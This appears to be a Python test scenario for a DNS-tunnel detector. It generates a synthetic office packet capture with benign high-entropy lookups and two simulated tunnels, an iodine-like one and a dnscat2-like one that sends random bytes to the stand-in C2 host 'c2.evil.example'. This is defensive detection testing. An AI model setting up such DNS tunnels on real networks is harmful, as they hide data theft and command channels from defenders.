"""Benign office traffic with tunnel-looking but benign DNS, plus two DNS tunnels.

Benign: the office (web, TLS, DNS from 20 clients), CDN names with hashes (few per client),
reverse lookups, a mail server checking senders against DNS block lists (many high-entropy
names, allowlisted), mDNS/DNS-SD announcements. Attacks: 10.1.0.66 runs an iodine-like tunnel
uploading 40 KB (NULL answers carrying data back) and 10.1.0.67 a dnscat2-like session.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from pathlib import Path

import dpkt

from tapetum.testing import CaptureBuilder, Ctx, Host, Packet, dns_lookup, udp_exchange
from tapetum.testing.tunnels import dnscat2_session, iodine_session
from tests.detectors.scenarios.scan import office

RESOLVER = Host("10.1.0.2")


def mdns_announce(ctx: Ctx, host: Host, service: str) -> Iterator[Packet]:
    """An mDNS query for a DNS-SD service type and a PTR answer (port 5353, multicast)."""
    q = dpkt.dns.DNS.Q(name=service, type=dpkt.dns.DNS_PTR, cls=1)
    query = bytes(dpkt.dns.DNS(id=0, qd=[q]))
    yield from udp_exchange(ctx, host, Host("224.0.0.251"), 5353, query, sport=5353)


def benign_dns(b: CaptureBuilder, rng: random.Random, span_s: float) -> None:
    clients = [Host(f"10.1.0.{k}") for k in range(10, 30)]
    for c in clients:
        for _ in range(4):  # CDN edge names with hashes: many distinct overall, few per client
            h = f"{rng.getrandbits(64):016x}"
            b.add(
                rng.uniform(0, span_s),
                dns_lookup,
                c,
                RESOLVER,
                f"e{rng.randint(1, 9999)}.dscx{h[:4]}.akamaiedge.net",
                a=["23.1.2.3"],
            )
            b.add(rng.uniform(0, span_s), dns_lookup, c, RESOLVER,
                  f"d{h[:13]}.cloudfront.net", a=["13.1.2.3"])  # fmt: skip
        ptr = ".".join(str(rng.randint(1, 254)) for _ in range(4)) + ".in-addr.arpa"
        b.add(rng.uniform(0, span_s), dns_lookup, c, RESOLVER, ptr, qtypes=("A",))
        b.add(rng.uniform(0, span_s), mdns_announce, c, "_googlecast._tcp.local")
    mail = Host("10.1.0.25")
    for _ in range(300):  # DNSBL and hash-reputation lookups by a busy mail server
        ip = ".".join(str(rng.randint(1, 254)) for _ in range(4))
        b.add(rng.uniform(0, span_s), dns_lookup, mail, RESOLVER, f"{ip}.zen.spamhaus.org",
              qtypes=("A",), nxdomain=True)  # fmt: skip
        sha1 = f"{rng.getrandbits(160):040x}"
        b.add(rng.uniform(0, span_s), dns_lookup, mail, RESOLVER, f"{sha1}.sophosxl.net",
              qtypes=("TXT",), extra_txt=40)  # fmt: skip


def build(tmp: Path) -> tuple[Path, set[str]]:
    b = CaptureBuilder(seed=41)
    rng = random.Random(41)
    office(b, rng)
    benign_dns(b, rng, 200.0)
    data = random.Random(42).randbytes(40_000)
    iodine, dnscat = Host("10.1.0.66"), Host("10.1.0.67")
    b.add(30.0, iodine_session, iodine, RESOLVER, "t.tunnel.example", data,
          downstream=random.Random(43).randbytes(30_000))  # fmt: skip
    b.add(60.0, dnscat2_session, dnscat, RESOLVER, "c2.evil.example", data[:12_000])
    path = tmp / "dnstunnel.pcap"
    b.write(path)
    return path, {iodine.ip, dnscat.ip}
